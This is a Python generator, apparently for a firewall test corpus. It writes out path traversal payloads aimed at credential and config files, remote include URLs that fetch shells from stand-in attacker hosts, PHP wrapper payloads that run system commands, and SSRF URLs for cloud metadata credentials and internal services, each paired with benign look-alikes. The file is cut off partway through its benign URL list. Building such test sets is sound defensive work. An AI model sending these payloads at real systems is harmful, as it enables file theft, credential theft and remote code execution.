"""Blind set "thirtysecond": what an attacker reads or fetches once a file or URL parameter is theirs.

The angle is the target rather than the trick: the files that pay off on real stacks and the internal URLs
that pay off in real clouds, each reached in a different spelling.

Families:
- lfi: the files an attacker wants, by kind: application server and framework configuration (`appcfg`:
  Tomcat, JBoss/WildFly, WebLogic, Jetty, nginx/Apache vhosts, php-fpm pools, Django, Rails, Laravel,
  Node, Spring), container and cloud secrets (`secrets`: service account tokens, /run/secrets, Docker, AWS,
  Azure and gcloud credentials, /proc/self), logs used for log poisoning (`logs`), the application's own
  source (`source`: index.php, app.py, WEB-INF, META-INF, .git) and Windows (`windows`: IIS, win.ini, SAM,
  \\\\?\\ and UNC paths, %SYSTEMROOT%). The Unix targets are written relative and each is given one of
  some thirty traversal spellings in turn (../, ..\\, ..%2f, %2e%2e/, ..%c0%af, ....//, ..;/, doubled
  encodings, absolute paths, file:/// URLs, %00 and ?/# tails, path parameters, php://filter); the
  record's `spelling` names which.
- rfi: remote includes over http(s) (`http`), ftp, smb, UNC and WebDAV (`remote`), and wrappers (`wrapper`:
  data:, php://input, expect://, zip/phar, jar:), with the usual ?, ??, #, %00 tails.
- generic (SSRF): URLs that make the server fetch internal things, in the fields that take URLs
  (webhook_url, callback_url, avatar_url, ...): loopback in every spelling (`loopback`), private ranges
  (`private`), cloud metadata endpoints of AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle and others
  (`metadata`), internal service names (`internal`), DNS-rebinding and wildcard-DNS services (`rebind`),
  credentials and confusable authorities in URLs (`userinfo`), and odd schemes (`scheme`).

Each lfi and rfi payload goes into three of seven places, rotating: a query argument, the admin search form,
a JSON body, a cookie, a header, the /me/location form's `place` and the /oauth/token form; each SSRF URL
into a JSON field, a query argument and a form field named like a URL field. Non-ASCII payloads skip the
header place (a header carries Latin-1 at most). No value holds CR, LF or NUL (the NUL tails are the
literal `%00`). The benign half: developers pasting the same paths and URLs into Slack (each also saved as
a bio), documentation links and prose, file names and URLs in the same parameter names the attacks use,
places people type, OAuth token requests, and the Referer and cookie values browsers send.

Authorship and independence: written from general knowledge of these families, without reading the
repository's WAF rules, any ruleset or its regression tests, other generators' lists or any public payload
list; measured once on the unchanged code and not changed after; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from .family_gen import UA, _form, _get, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose
from .records import print_records

NAME = "thirtysecond"

# ---------------------------------------------------------------------------------------------- lfi targets
APPCFG = [
    "usr/local/tomcat/conf/tomcat-users.xml",
    "opt/tomcat/conf/server.xml",
    "var/lib/tomcat9/conf/context.xml",
    "etc/tomcat9/tomcat-users.xml",
    "opt/jboss/standalone/configuration/standalone.xml",
    "opt/wildfly/standalone/configuration/mgmt-users.properties",
    "u01/oracle/user_projects/domains/base_domain/config/config.xml",
    "u01/oracle/user_projects/domains/base_domain/servers/AdminServer/security/boot.properties",
    "opt/jetty/etc/jetty.xml",
    "opt/jetty/etc/realm.properties",
    "etc/nginx/nginx.conf",
    "etc/nginx/sites-enabled/default",
    "etc/nginx/conf.d/default.conf",
    "etc/apache2/apache2.conf",
    "etc/apache2/sites-available/000-default.conf",
    "etc/httpd/conf/httpd.conf",
    "usr/local/apache2/conf/httpd.conf",
    "etc/php/8.2/fpm/pool.d/www.conf",
    "etc/php/7.4/fpm/php-fpm.conf",
    "etc/php.ini",
    "app/config/settings.py",
    "srv/app/mysite/settings.py",
    "var/www/app/config/master.key",
    "var/www/app/config/credentials.yml.enc",
    "var/www/app/config/database.yml",
    "var/www/laravel/.env",
    "var/www/html/.env",
    "var/www/laravel/storage/logs/laravel.log",
    "usr/src/app/package.json",
    "home/node/.npmrc",
    "usr/src/app/.env.production",
    "app/src/main/resources/application.yml",
    "opt/app/config/application.properties",
    "var/www/html/wp-config.php",
    "etc/mysql/my.cnf",
    "etc/redis/redis.conf",
    "var/lib/pgsql/data/pg_hba.conf",
    "etc/haproxy/haproxy.cfg",
    "etc/supervisor/conf.d/app.conf",
    "etc/gitlab/gitlab.rb",
]
SECRETS = [
    "var/run/secrets/kubernetes.io/serviceaccount/token",
    "var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
    "run/secrets/db_password",
    "run/secrets/aws_secret_access_key",
    "root/.docker/config.json",
    "home/ubuntu/.aws/credentials",
    "root/.aws/config",
    "home/app/.azure/accessTokens.json",
    "root/.azure/azureProfile.json",
    "root/.config/gcloud/credentials.db",
    "home/app/.config/gcloud/application_default_credentials.json",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/self/cwd/app.py",
    "proc/self/cwd/.env",
    "proc/1/root/etc/shadow",
    "proc/1/environ",
    "proc/self/root/etc/passwd",
    "proc/self/mounts",
    "proc/self/status",
    "root/.ssh/id_rsa",
    "home/deploy/.ssh/authorized_keys",
    "root/.kube/config",
    "etc/kubernetes/admin.conf",
    "etc/kubernetes/pki/ca.key",
    "var/lib/kubelet/config.yaml",
    "etc/rancher/k3s/k3s.yaml",
    "root/.git-credentials",
    "home/runner/.netrc",
    "root/.bash_history",
    "etc/shadow",
    "etc/passwd",
    "root/.vault-token",
    "etc/ssl/private/server.key",
    "var/lib/docker/containers/config.v2.json",
]
LOGS = [
    "var/log/apache2/access.log",
    "var/log/apache2/error.log",
    "var/log/httpd/access_log",
    "var/log/nginx/access.log",
    "var/log/nginx/error.log",
    "var/log/mail.log",
    "var/log/maillog",
    "var/mail/www-data",
    "var/log/auth.log",
    "var/log/vsftpd.log",
    "var/log/secure",
    "proc/self/fd/0",
    "proc/self/fd/2",
    "proc/self/fd/7",
    "proc/self/fd/12",
    "var/lib/php/sessions/sess_abc123def456",
    "tmp/sess_9f8e7d6c5b4a",
    "var/log/tomcat9/catalina.out",
    "opt/tomcat/logs/localhost_access_log.txt",
    "usr/local/tomcat/logs/catalina.2024-01-01.log",
    "var/log/syslog",
    "var/log/messages",
    "var/log/php-fpm/www-error.log",
    "var/log/mysql/error.log",
    "var/log/redis/redis-server.log",
    "var/log/supervisor/supervisord.log",
    "var/log/dpkg.log",
    "var/log/lastlog",
    "var/log/wtmp",
    "proc/self/fd/1",
]
SOURCE = [
    "var/www/html/index.php",
    "var/www/html/config.php",
    "var/www/html/includes/db.php",
    "app/app.py",
    "srv/app/main.py",
    "opt/app/wsgi.py",
    "usr/src/app/server.js",
    "usr/src/app/index.js",
    "WEB-INF/web.xml",
    "WEB-INF/classes/application.properties",
    "WEB-INF/classes/hibernate.cfg.xml",
    "WEB-INF/jboss-web.xml",
    "META-INF/MANIFEST.MF",
    "META-INF/context.xml",
    "var/www/html/.htaccess",
    "var/www/html/.htpasswd",
    "var/www/html/.git/config",
    "var/www/html/.git/HEAD",
    "var/www/html/composer.json",
    "var/www/html/vendor/composer/installed.json",
    "app/Gemfile",
    "app/config/routes.rb",
    "app/requirements.txt",
    "opt/app/Dockerfile",
    "app/docker-compose.yml",
    "var/www/html/.svn/entries",
    "var/www/html/web.config",
    "var/www/html/admin/login.php",
]
WINDOWS = [
    "C:\\inetpub\\wwwroot\\web.config",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "C:\\Windows\\win.ini",
    "..\\..\\..\\..\\..\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "C:\\Windows\\System32\\config\\SAM",
    "C:\\Windows\\System32\\config\\SYSTEM",
    "C:\\Windows\\repair\\SAM",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "%SYSTEMROOT%\\System32\\inetsrv\\config\\applicationHost.config",
    "%WINDIR%\\win.ini",
    "%SYSTEMROOT%\\repair\\system",
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\?\\UNC\\fileserver\\share\\secrets.txt",
    "\\\\.\\C:\\boot.ini",
    "\\\\fileserver\\c$\\Windows\\win.ini",
    "\\\\10.0.0.5\\admin$\\system32\\config\\SAM",
    "file:///C:/Windows/win.ini",
    "file://C:\\Windows\\system.ini",
    "C:\\boot.ini",
    "c:\\windows\\panther\\unattend.xml",
    "C:\\Windows\\Panther\\Unattend\\Unattended.xml",
    "C:\\Windows\\debug\\NetSetup.log",
    "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\xampp\\php\\php.ini",
    "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\conf\\tomcat-users.xml",
    "C:\\Users\\Administrator\\.aws\\credentials",
    "C:\\Users\\Administrator\\NTUser.dat",
    "C:\\Windows\\System32\\LogFiles\\W3SVC1\\u_ex240101.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..\\\\..\\\\..\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts",
    "C:\\Windows\\System32\\config\\RegBack\\SAM",
    "c:/inetpub/wwwroot/global.asa",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Config\\web.config",
    "....\\\\....\\\\windows\\\\win.ini",
    "..%255c..%255cwindows%255cwin.ini",
    "C:%5cWindows%5cwin.ini",
    "C:\\Windows\\System32\\inetsrv\\MetaBase.xml",
]


def _bs(t: str) -> str:
    return t.replace("/", "\\")


# (name, spelling of a relative target t at depth d)
SPELLINGS: list[tuple[str, Callable[[str, int], str]]] = [
    ("dotdot", lambda t, d: "../" * d + t),
    ("backslash", lambda t, d: "..\\" * d + _bs(t)),
    ("pct2f", lambda t, d: "..%2f" * d + t.replace("/", "%2f")),
    ("pctdots", lambda t, d: "%2e%2e/" * d + t),
    ("pctall", lambda t, d: "%2e%2e%2f" * d + t),
    ("overlong", lambda t, d: "..%c0%af" * d + t),
    ("doubled", lambda t, d: "....//" * d + t),
    ("semicolon", lambda t, d: "..;/" * d + t),
    ("double-enc", lambda t, d: "%252e%252e%252f" * d + t),
    ("absolute", lambda t, d: "/" + t),
    ("file-url", lambda t, d: "file:///" + t),
    ("nul-tail", lambda t, d: "../" * d + t + "%00"),
    ("nul-ext", lambda t, d: "../" * d + t + "%00.jpg"),
    ("query-tail", lambda t, d: "../" * d + t + "?.png"),
    ("hash-tail", lambda t, d: "../" * d + t + "#"),
    ("webroot", lambda t, d: "/var/www/html/" + "../" * d + t),
    ("pct5c", lambda t, d: "..%5c" * d + t),
    ("half-enc", lambda t, d: ".%2e/" * d + t),
    ("slashes", lambda t, d: "..///" * d + t),
    ("dot-slash", lambda t, d: "/./././" + "../" * d + t),
    ("u2215", lambda t, d: "..%u2215" * d + t),
    ("fullwidth", lambda t, d: "..%ef%bc%8f" * d + t),
    ("path-param", lambda t, d: "static/" + "..;jsessionid=a1b2c3/" * d + t),
    ("mixed", lambda t, d: "....\\/" * d + t),
    ("pct252f", lambda t, d: "..%252f" * d + t),
    ("overlong-dots", lambda t, d: "%c0%ae%c0%ae/" * d + t),
    ("slash-mix", lambda t, d: "..\\/" * d + t),
    ("file-localhost", lambda t, d: "file://localhost/" + t),
    ("trailing-dot", lambda t, d: "/" + t + "/."),
    ("nul-segment", lambda t, d: "..%00/" * d + t),
    ("pct5c-all", lambda t, d: "%2e%2e%5c" * d + t.replace("/", "%5c")),
    ("upload-dir", lambda t, d: "uploads/" + "../" * d + t),
    ("php-filter", lambda t, d: "php://filter/read=convert.base64-encode/resource=" + "../" * d + t),
    ("unicode-dots", lambda t, d: "\u2025/" * d + t),
    ("utf-dotdot", lambda t, d: "..%e0%80%af" * d + t),
]

LFI_CLASSES = {"appcfg": APPCFG, "secrets": SECRETS, "logs": LOGS, "source": SOURCE}


def _lfi() -> list[tuple[str, str, str]]:
    """(sub, spelling, payload) for every lfi payload."""
    out = []
    k = 0
    for sub, targets in LFI_CLASSES.items():
        for t in targets:
            name, spell = SPELLINGS[k % len(SPELLINGS)]
            out.append((sub, name, spell(t, 3 + k % 5)))
            k += 1
    out.extend(("windows", "as-written", p) for p in WINDOWS)
    return out


# ---------------------------------------------------------------------------------------------- rfi
RFI_HTTP = [
    "http://evil.example/shell.txt?",
    "http://203.0.113.7/c99.txt??",
    "https://attacker.example/inc/config.php%00",
    "http://attacker.example/r57.txt#",
    "hTtP://attacker.example/x.txt?",
    "http://attacker.example:8080/payload.php?cmd=id",
    "https://pastebin.com/raw/AbCd1234?",
    "https://raw.githubusercontent.com/evil/kit/main/shell.php?",
    "http://0xcb007107/s.txt?",
    "http://3405803783/s.txt?",
    "//attacker.example/shell.txt?",
    "http:/\\attacker.example/shell.txt",
    "http://attacker.example/shell.txt%3F",
    "https://attacker.example/backdoor.php.txt?x=",
    "http://attacker.example/?/../../index",
    "http://attacker.example/x.jpg?.php",
    "http%3A%2F%2Fattacker.example%2Fshell.txt%3F",
    "http%253A%252F%252Fattacker.example%252Fs.txt",
    "http://user:pass@attacker.example/inc.txt?",
    "http://attacker.example/inc.txt?&",
    "https://evil.example/x?x=../../../",
    "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
    "http://attacker.example/shell.txt%23",
    "https://attacker.example/wso.php?a=",
    "http://[2001:db8::7]/inc.txt?",
]
RFI_REMOTE = [
    "ftp://anonymous:anon@attacker.example/pub/shell.php",
    "ftp://203.0.113.7/x.txt%00",
    "ftps://attacker.example/s.txt?",
    "smb://attacker.example/share/shell.php",
    "\\\\attacker.example\\share\\shell.php",
    "\\\\203.0.113.7\\public\\x.php",
    "//attacker.example/share/shell.php",
    "\\\\\\\\attacker.example\\\\share\\\\s.php",
    "file://attacker.example/share/shell.php",
    "\\\\attacker.example@SSL\\DavWWWRoot\\shell.php",
    "\\\\attacker.example@80\\dav\\s.php",
    "FTP://attacker.example/inc/x.txt?",
]
RFI_WRAPPER = [
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "php://input",
    "php://input%00",
    "PhP://InPuT",
    "expect://id",
    "expect://whoami",
    "php://filter/convert.base64-decode/resource=data://plain/text,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    "zip://uploads/avatar.jpg%23shell.php",
    "phar://uploads/avatar.gif/shell.php",
    "compress.zlib://http://attacker.example/s.txt",
    "ssh2.exec://attacker.example:22/id",
    "glob://*.php",
    "jar:http://attacker.example/x.jar!/shell.jsp",
    "gopher://attacker.example:70/1shell",
    "data:text/html,<?=`id`?>",
]
RFI = {"http": RFI_HTTP, "remote": RFI_REMOTE, "wrapper": RFI_WRAPPER}

# ---------------------------------------------------------------------------------------------- SSRF
SSRF_LOOPBACK = [
    "http://127.0.0.1:8080/admin",
    "http://127.1:6379/",
    "http://127.000.000.001/",
    "http://0/",
    "http://0.0.0.0:9200/_cat/indices",
    "http://2130706433:80/",
    "http://0x7f000001/",
    "http://0x7f.1/",
    "http://0177.1/",
    "http://017700000001:22/",
    "http://0177.0000.0000.0001/",
    "http://[::1]:8500/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]:80/",
    "http://[::]/",
    "http://localhost./",
    "http://LocalHost:2375/version",
    "http://127.127.127.127/",
    "http://127.0.1.3/",
    "http://0x7f.0.0.1/",
    "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/",
    "http://127.0.0.1:25/",
    "https://127.0.0.1:6443/api",
    "http://0.0.0.0:5984/_all_dbs",
    "http://[0000::1]:3306/",
    "http://localhost:11211/",
    "http://127.0.0.1:8001/api/v1/namespaces/kube-system/secrets",
    "http://0:8080/manager/html",
    "http://127.0.0.1:9090/-/reload",
    "http://localhost:15672/api/users",
    "http://127.0.0.1:4040/api/tunnels",
]
SSRF_PRIVATE = [
    "http://10.0.0.1/",
    "http://10.10.10.10:8080/actuator/heapdump",
    "http://172.17.0.1:2375/containers/json",
    "http://172.31.255.254/",
    "http://192.168.0.1/cgi-bin/luci",
    "http://192.168.1.254:8443/",
    "http://0xa000001/",
    "http://167772161/",
    "http://012.0.0.1/",
    "http://3232235777/",
    "http://0xc0.0xa8.0x01.0x01/",
    "http://[::ffff:10.0.0.1]/",
    "http://[fc00::1]/",
    "http://[fe80::1%25eth0]/",
    "http://100.64.0.1/",
    "http://192.168.49.2:10250/pods",
    "http://10.96.0.1:443/",
    "http://172.16.0.1:9000/minio/admin/v3/info",
]
SSRF_METADATA = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/",
    "http://0251.0376.0251.0376/latest/",
    "http://[::ffff:169.254.169.254]/latest/",
    "http://169.254.170.2/v2/credentials/6a0e4c1d",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/project/project-id",
    "http://169.254.169.254/computeMetadata/v1/?recursive=true",
    "http://metadata.google.internal./computeMetadata/v1/instance/attributes/kube-env",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://168.63.129.16/machine?comp=goalstate",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v2/instance/",
    "http://192.0.0.192/latest/",
    "http://169.254.169.254/opc/v1/identity/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/hetzner/v1/metadata",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "https://metadata.platformequinix.com/metadata",
    "http://169.254.169.254/v1/instance-info",
    "http://169.254.169.254",
]
SSRF_INTERNAL = [
    "https://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "https://kubernetes.default.svc.cluster.local/apis",
    "http://kubernetes.default:443/",
    "http://consul.service.consul:8500/v1/kv/?recurse",
    "http://vault.service.consul:8200/v1/secret/data/app",
    "http://etcd.internal:2379/v2/keys/?recursive=true",
    "http://db.internal:5432/",
    "http://admin.internal/",
    "http://jenkins.corp.internal:8080/script",
    "http://prometheus.monitoring.svc:9090/api/v1/targets",
    "http://elasticsearch.logging.svc.cluster.local:9200/_search",
    "http://redis-master.default.svc:6379/",
    "http://grafana.internal:3000/api/admin/users",
    "http://localhost.localdomain/",
    "http://intranet/",
    "http://host.docker.internal:8080/",
    "http://gateway.docker.internal/",
    "http://kubelet:10255/pods",
    "http://rancher-metadata/latest/",
    "http://127.0.0.1.internal/",
]
SSRF_REBIND = [
    "http://127.0.0.1.nip.io/",
    "http://169.254.169.254.nip.io/latest/",
    "http://10.0.0.1.sslip.io/",
    "http://7f000001.c0a80001.rbndr.us/",
    "http://localtest.me/admin",
    "http://app.127.0.0.1.nip.io:8080/",
    "http://make-127-0-0-1-rr.1u.ms/",
    "http://a9fea9fe.0a000001.rbndr.us/latest/meta-data/",
    "http://spoofed.burpcollaborator.net/",
    "http://lvh.me:8080/",
    "http://127-0-0-1.nip.io/",
    "http://www.127.0.0.1.xip.io/",
]
SSRF_USERINFO = [
    "http://user@127.0.0.1/",
    "http://admin:admin@localhost:8080/manager/html",
    "http://example.com@169.254.169.254/latest/meta-data/",
    "http://trusted.example.com%40127.0.0.1/",
    "http://127.0.0.1#@trusted.example.com/",
    "http://trusted.example.com#@169.254.169.254/",
    "http://127.0.0.1:80\\@trusted.example.com/",
    "http://trusted.example.com.127.0.0.1.nip.io/",
    "http://foo@evil@127.0.0.1/",
    "http://:@127.0.0.1/",
    "https://trusted.example.com/redirect?url=http://169.254.169.254/",
    "http://root:toor@10.0.0.8:15672/",
]
SSRF_SCHEME = [
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://localhost:3306/_%a3%00%00%01%85%a6",
    "gopher://127.0.0.1:25/xHELO%20localhost",
    "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00",
    "dict://127.0.0.1:6379/INFO",
    "dict://localhost:11211/stat",
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "file://localhost/c:/windows/win.ini",
    "ldap://127.0.0.1:389/dc=internal",
    "ldap://localhost:1389/o=x",
    "jar:file:///tmp/x.jar!/a.class",
    "jar:http://127.0.0.1:8080/a.jar!/",
    "tftp://127.0.0.1:69/boot.cfg",
    "sftp://127.0.0.1:22/",
    "netdoc:///etc/hosts",
    "ftp://127.0.0.1:21/",
    "telnet://127.0.0.1:23/",
    "mysql://root@127.0.0.1:3306/",
    "redis://127.0.0.1:6379/0",
    "mongodb://localhost:27017/admin",
    "FILE:///var/run/secrets/kubernetes.io/serviceaccount/token",
]
SSRF = {"loopback": SSRF_LOOPBACK, "private": SSRF_PRIVATE, "metadata": SSRF_METADATA,
        "internal": SSRF_INTERNAL, "rebind": SSRF_REBIND, "userinfo": SSRF_USERINFO, "scheme": SSRF_SCHEME}

# ---------------------------------------------------------------------------------------------- placement
PLACES = ["query", "form", "json", "cookie", "header", "me", "oauth"]
LFI_NAMES = ["file", "path", "template", "page", "doc", "include", "download", "lang", "view", "filename"]
RFI_NAMES = ["page", "include", "template", "module", "inc", "lang", "path", "file", "url", "theme"]
URL_FIELDS = ["webhook_url", "callback_url", "avatar_url", "image_url", "icon_url", "import_url", "feed_url",
              "url", "source", "target"]
OAUTH_FIELDS = ["scope", "audience", "resource"]


def _me(value: str) -> dict[str, Any]:
    return _form("/me/location", [("csrf_token", "t0k3n"), ("place", value)])


def _oauth(field: str, value: str) -> dict[str, Any]:
    return _form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", "jeeves-cli"),
                                  ("client_secret", "s3cr3t-value-123"), (field, value)])


def _put(place: str, name: str, value: str, i: int) -> dict[str, Any]:
    if place == "me":
        return _me(value)
    if place == "oauth":
        return _oauth(OAUTH_FIELDS[i % len(OAUTH_FIELDS)], value)
    return _place(place, name, value)


def seven_places(i: int, names: list[str], payload: str) -> list[tuple[str, str]]:
    """Three of PLACES for the i-th payload, rotating, a parameter name of `names` alongside; a non-ASCII
    payload takes the /me/ form instead of a header."""
    out = []
    for k in range(3):
        place = PLACES[(i + k) % len(PLACES)]
        if place == "header" and not payload.isascii():
            place = "me"
        out.append((place, names[(i + k) % len(names)]))
    return out


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for sub, spelling, p in _lfi():
        for place, name in seven_places(i, LFI_NAMES, p):
            n += 1
            yield {**_put(place, name, p, i), "id": f"{NAME}-lfi-{sub}-{n:04d}", "category": "lfi", "sub": sub,
                   "placement": place, "payload": p, "spelling": spelling}
        i += 1
    for sub, payloads in RFI.items():
        for p in payloads:
            for place, name in seven_places(i, RFI_NAMES, p):
                n += 1
                yield {**_put(place, name, p, i), "id": f"{NAME}-rfi-{sub}-{n:04d}", "category": "rfi",
                       "sub": sub, "placement": place, "payload": p}
            i += 1
    for sub, payloads in SSRF.items():
        for p in payloads:
            for k, place in enumerate(("json", "query", "form")):
                n += 1
                name = URL_FIELDS[(i + k) % len(URL_FIELDS)]
                yield {**_place(place, name, p), "id": f"{NAME}-generic-{sub}-{n:04d}", "category": "generic",
                       "sub": sub, "placement": place, "payload": p}
            i += 1


# ---------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "tomcat-users.xml on staging still has the default manager role, can someone fix it before the demo?",
    "where does WildFly keep standalone.xml in the new image? /opt/jboss/wildfly/standalone/configuration I think",
    "WebLogic config.xml diff attached, only the datasource changed",
    "the nginx vhost for the docs site lives in /etc/nginx/sites-available/docs.conf, symlinked as usual",
    "php-fpm pool www.conf: pm = dynamic, pm.max_children = 20, that's what we run",
    "Django settings.py should read SECRET_KEY from the environment, not from the repo",
    "lost the Rails config/master.key locally, is it in 1Password?",
    "Laravel .env.example is committed, the real .env never is",
    "storage/logs/laravel.log grew to 4 GB overnight, rotating it now",
    "bumped the version in package.json and added the registry to .npmrc",
    "Spring profile overrides go in application-prod.yml next to application.yml",
    "the service account token is mounted at the usual place, the pod reads it at startup",
    "docker login writes ~/.docker/config.json, don't commit that file",
    "aws configure put my keys in ~/.aws/credentials, rotating them tomorrow",
    "gcloud auth application-default login fixed the local run",
    "the log file is /var/log/nginx/access.log, grep for 502 there",
    "apache access.log shows the crawler hitting /sitemap.xml every minute",
    "postfix mail.log says the relay refused us, checking SPF",
    "index.php is the front controller, everything routes through it",
    "app.py starts the Quart app, wsgi.py is only for the old gunicorn setup",
    "WEB-INF/web.xml is gone since we moved to Spring Boot annotations",
    "META-INF/MANIFEST.MF needs the Main-Class line for the fat jar",
    "copied the installer to C:\\Users\\Public\\Downloads, run it as admin",
    "IIS web.config needs the rewrite rule for the SPA fallback",
    "the old build server share is \\\\buildsrv\\drops, ask IT for access",
    "win.ini is not a thing we should ever need in 2024 :sweat_smile:",
    "use ../common/logo.svg in the README so the link works on GitHub",
    "run it from the repo root: python -m tools.check ../data/sample.csv",
    "the relative import from ../../utils is ugly, let's use the package path",
    "cd ../frontend && npm run build, then copy dist to the bucket",
    "our docs link to file:///C:/Program%20Files/ by mistake in the PDF, please fix",
    "the webhook URL is https://hooks.slack.com/services/T000/B000/XXXX, rotate it monthly",
    "callback_url for the sandbox is https://sandbox.example.com/oauth/callback",
    "the health check hits http://localhost:8080/healthz inside the container",
    "docker compose maps Postgres to 127.0.0.1:5432 only, good",
    "the metadata endpoint 169.254.169.254 is blocked from pods by the network policy",
    "IMDSv2 is enforced on all instances now, hop limit 1",
    "kubernetes.default.svc resolves only inside the cluster, that's why your laptop fails",
    "Consul UI is at consul.service.consul:8500 on the VPN",
    "use nip.io for quick wildcard DNS in local demos, e.g. app.192.168.1.10.nip.io",
    "don't put credentials in URLs like https://user:pass@host, use a header",
    "gopher the Go mascot sticker pack arrived!",
    "the ldap server migration to ldaps:// is done",
    "the data: URI for the favicon is 2 KB, fine to inline",
    "php://stdin is what the CLI script reads from",
    "expect is the assertion library in our Jest tests",
    "the FTP server is finally retired, use SFTP on port 22",
    "the SMB share for finance moved to SharePoint",
    "proc/self/status is handy when debugging memory of the worker",
    "the /run/secrets mount is how Docker swarm passes secrets",
    "our .env.production template lists every variable without values",
    "the Jetty realm.properties file is only used in the demo",
    "catalina.out rotation is done by logrotate daily",
    "10.0.0.0/8 is the VPC range, 172.16.0.0/12 is docker's",
    "IPv6 loopback is ::1, remember it when binding the dev server",
    "Azure's instance metadata service needs the Metadata: true header",
    "GCP metadata.google.internal needs Metadata-Flavor: Google",
    "Alibaba Cloud's metadata address is different from AWS, 100.100.100.200",
    "DigitalOcean droplet metadata is documented under /metadata/v1",
    "Oracle Cloud uses /opc/v2 for instance metadata",
    "the file upload saves to uploads/2024/06/ with a random name",
    "the report path is reports/2024/q2/summary.pdf",
    "C:\\inetpub\\wwwroot is the IIS default root on the old box",
    "%APPDATA% on Windows is where the desktop client stores its cache",
    "the SAM database is locked while Windows runs, that's why the backup tool skips it",
    "log poisoning was a topic at the security training, interesting stuff",
    "path traversal talk slides are in the drive, the ../ examples are funny",
    "SSRF training recording is up, the metadata part is the best bit",
    "the git config in the repo sets autocrlf=false",
    ".htaccess is ignored by nginx, port those rules to the server block",
    "the Dockerfile copies requirements.txt first for layer caching",
    "docker-compose.yml has the redis service on 6379",
    "the feed_url for the blog is https://blog.example.com/feed.xml",
    "avatar_url comes from gravatar for users without a Slack photo",
    "import_url takes a Google Sheets CSV export link",
    "please review the PR that moves config.php out of the web root",
    "the ingress for kubelet ports is closed now",
    "tested the redirect with ?next=/dashboard, works",
    "host.docker.internal works on Docker Desktop but not on Linux by default",
    "the vault-token file in the CI runner is mounted read-only",
]
PUBLIC_URLS = [
    "https://tomcat.apache.org/tomcat-9.0-doc/realm-howto.html",
    "https://docs.wildfly.org/30/Admin_Guide.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#root",
    "https://httpd.apache.org/docs/2.4/vhosts/examples.html",
    "https://www.php.net/manual/en/install.fpm.configuration.php",
    "https://docs.djangoproject.com/en/5.0/topics/settings/",
    "https://guides.rubyonrails.org/security.html#custom-credentials",
    "https://laravel.com/docs/11.x/configuration#environment-configuration",
    "https://docs.npmjs.com/cli/v10/configuring-npm/npmrc",
    "https://docs.spring.io/spring-boot/docs/current/reference/html/application-properties.html",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "https://docs.docker.com/engine/swarm/secrets/",
    "https://docs.aws.amazon.com/cli/latest/userguide/cli-configure-files.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://docs.digitalocean.com/reference/api/metadata-api/",
    "https://docs.oracle.com/en-us/iaas/Content/Compute/Tasks/gettingmetadata.htm",
    "https://www.alibabacloud.com/help/en/ecs/user-guide/view-instance-metadata",
    "https://learn.microsoft.com/en-us/iis/configuration/",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/Top10/A10_2021-Server-Side_Request_Forgery_%28SSRF%29/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://www.consul.io/docs/discovery/dns",
    "https://nip.io/",
    "https://github.com/acme/api/blob/main/config/application.yml",
    "https://github.com/acme/web/tree/main/WEB-INF",
